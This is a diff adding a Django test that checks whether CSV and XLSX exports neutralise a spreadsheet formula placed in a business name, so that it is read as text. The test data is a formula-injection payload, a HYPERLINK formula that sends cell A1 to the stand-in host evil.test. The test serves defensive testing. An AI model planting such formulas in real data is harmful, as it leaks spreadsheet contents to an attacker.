@@ -127,6 +127,17 @@ def test_the_csv_export_streams_the_filtered_list(oscar: Any, alice: Any) -> Non
     ]  # fmt: skip
 
 
+def test_an_owners_formula_in_a_business_name_reaches_the_staffs_csv_and_xlsx_as_text(oscar: Any, alice: Any) -> None:
+    BusinessFactory(owner=alice, name='=HYPERLINK("http://evil.test/?x="&A1,"Klik")')
+    response = _client(oscar).get(reverse("applicants:export_csv"))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    assert rows[1][0] == """'=HYPERLINK("http://evil.test/?x="&A1,"Klik")"""
+    workbook = _client(oscar).get(reverse("applicants:export_xlsx"))
+    content = b"".join(workbook.streaming_content) if workbook.streaming else workbook.content
+    sheet = load_workbook(io.BytesIO(content), read_only=True).active
+    assert [row[0] for row in sheet.iter_rows(values_only=True)][1].startswith("'=HYPERLINK")
+
+
 def test_the_xlsx_export_reads_back_with_openpyxl(ayu: Any, alice: Any) -> None:
     _two_businesses(alice)
     response = _client(ayu).get(reverse("applicants:export_xlsx"))
